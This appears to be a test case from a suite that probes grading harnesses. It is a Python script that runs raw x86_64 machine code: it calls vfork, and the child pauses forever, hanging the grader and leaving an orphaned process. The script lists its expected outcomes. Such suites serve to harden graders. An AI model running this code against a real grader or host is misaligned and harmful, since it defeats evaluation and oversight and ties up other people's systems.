# attack: Makes a child with vfork that never goes on: the parent then waits inside the kernel and hears no signal but one.
# hurts: Hangs a grader that ends a process politely, and leaves the child behind.
# ends: timeout
# ends at B, C: returns or timeout
import os
import subprocess

from _raw import MACHINE, machine_code

# mov eax, vfork; syscall; test eax, eax; jnz end; again: mov eax, pause; syscall; jmp again; end: ret
CODE = bytes.fromhex("b83a0000000f0585c07509b8220000000f05ebf7c3")


def attack(target):
    if MACHINE != "x86_64":
        return subprocess.run(["sleep", "20"], check=False).returncode
    result = machine_code(CODE)()
    if result > 0:
        os.waitpid(result, 0)
    return f"vfork: {result}"
